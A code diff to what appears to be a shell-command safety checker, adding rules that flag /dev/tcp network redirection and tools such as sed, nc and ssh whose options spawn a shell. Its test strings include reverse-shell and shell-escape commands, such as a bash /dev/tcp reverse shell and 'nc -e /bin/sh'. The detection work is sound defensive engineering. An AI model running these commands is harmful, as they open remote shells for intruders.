@@ -5,10 +5,11 @@ import {
   type Invocation,
   isShell,
   parseLeading,
+  parseOptions,
   shellUse,
 } from "../invocation.ts";
 import { isRemote, type Rule } from "../rule.ts";
-import { hasUnknown } from "../expand.ts";
+import { hasUnknown } from "../unknown.ts";
 
 const SHELLS = "sh bash zsh dash ksh ash fish mksh rbash csh tcsh".split(" ");
 const LANGUAGES = "python pypy perl ruby node nodejs bun deno php lua rscript osascript julia"
@@ -272,6 +273,15 @@ export const SCRIPT_RULES: readonly Rule[] = [
     noMatch: ["bash -x s.sh", "docker exec web sh -c ls"],
   },
   {
+    key: "network redirection",
+    kind: "dangerous",
+    description: "connects a program to the network through the shell",
+    redirections: true,
+    test: ({ redirects }) => redirects.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target)),
+    match: ["bash -i >& /dev/tcp/1.2.3.4/443 0>&1", "exec 3<>/dev/tcp/h/80"],
+    noMatch: ["echo x > /dev/null"],
+  },
+  {
     key: "evaluate computed text",
     kind: "dangerous",
     description: "runs text that only exists at run time",
@@ -299,7 +309,7 @@ export const SCRIPT_RULES: readonly Rule[] = [
     kind: "dangerous",
     description: "an option makes a harmless tool run another program",
     programs:
-      "rg sort man ag ack tar gtar rsync ssh scp sftp vim vi nvim less awk gawk mawk nawk zip"
+      "rg sort man ag ack tar gtar rsync ssh scp sftp vim vi nvim ex less awk gawk mawk nawk zip sed gsed nc ncat"
         .split(" "),
     test: runsProgramByFlag,
     match: [
@@ -311,6 +321,9 @@ export const SCRIPT_RULES: readonly Rule[] = [
       "tar cf a.tar --checkpoint=1 --checkpoint-action=exec=sh f",
       "ssh -o ProxyCommand=sh h",
       "awk 'BEGIN{system(\"ls\")}'",
+      "sed '1e ls' f",
+      "sed 's/a/b/e' f",
+      "nc -e /bin/sh h 1",
     ],
     noMatch: [
       "rg foo .",
@@ -318,6 +331,10 @@ export const SCRIPT_RULES: readonly Rule[] = [
       "tar -I zstd -cf a.tar.zst d",
       'rsync -e "ssh -p 2222" a h:b',
       "awk '{print $1}' f",
+      "sed -e 's/a/e/' e",
+      "sed -n '/e/p' f",
+      "ssh -o ProxyCommand='ssh -W %h:%p gate' h",
+      "nc -zv h 1",
     ],
   },
 ];
@@ -332,17 +349,37 @@ const PROGRAM_FLAGS: Readonly<Record<string, RegExp>> = {
     /^--(?:checkpoint-action=exec|to-command|rmt-command|rsh-command|info-script|new-volume-script)/,
   zip: /^(?:-TT|--unzip-command)/,
   vim: /^(?:-c|\+|--cmd)?:?!/,
+  less: /^\+!/,
+  nc: /^-[a-zA-Z]*[ec]$|^--(?:sh-)?exec/,
 };
 
+const AWK_RUNS = /\bsystem\s*\(|\|\s*"(?:\S*\/)?(?:ba|z|da|k)?sh\b|"\s*\|\s*getline/;
+/** The `e` command, and the `e` flag of `s`. */
+const SED_RUNS =
+  /(?:^|[;{\n])\s*(?:\d+|\$|\/[^/]*\/)?\s*e(?:\s|$)|(?:^|[;{\n\s\d/$])s([/|,#])(?:(?!\1).)*\1(?:(?!\1).)*\1[gpimM\d]*e/;
+
+function sedScripts(args: readonly string[]): string[] {
+  const { values, operands } = parseOptions(args, {
+    values: "efl",
+    longValues: ["expression", "file"],
+  });
+  const given = [...values.get("e") ?? [], ...values.get("expression") ?? []];
+  return given.length > 0 ? given : operands.slice(0, 1);
+}
+
 function runsProgramByFlag({ program, args }: Invocation): boolean {
-  const name = program.replace(/^g(?=tar$)/, "").replace(/^(?:vi|nvim)$/, "vim");
+  const name = program.replace(/^g(?=tar$)/, "").replace(/^(?:vi|nvim|ex)$/, "vim")
+    .replace(/^ncat$/, "nc");
   switch (name) {
     case "ssh":
     case "scp":
     case "sftp":
       return args.some((arg) =>
-        /^(?:-o)?\s*(?:ProxyCommand|LocalCommand|KnownHostsCommand)\b/i.test(arg)
+        /^(?:-o)?\s*(?:ProxyCommand|LocalCommand|KnownHostsCommand)\b(?![\s=]*ssh\s)/i.test(arg)
       );
+    case "sed":
+    case "gsed":
+      return sedScripts(args).some((script) => SED_RUNS.test(script));
     case "rsync":
       return args.some((arg, i) => {
         const shell = arg === "-e" || arg === "--rsh" ? args[i + 1] : /^--rsh=(.*)/.exec(arg)?.[1];
@@ -352,7 +389,7 @@ function runsProgramByFlag({ program, args }: Invocation): boolean {
     case "gawk":
     case "mawk":
     case "nawk":
-      return args.some((arg) => /\bsystem\s*\(|\|\s*"|"\s*\|\s*getline/.test(arg));
+      return args.some((arg) => AWK_RUNS.test(arg));
     default:
       return args.some((arg) => PROGRAM_FLAGS[name]?.test(arg));
   }
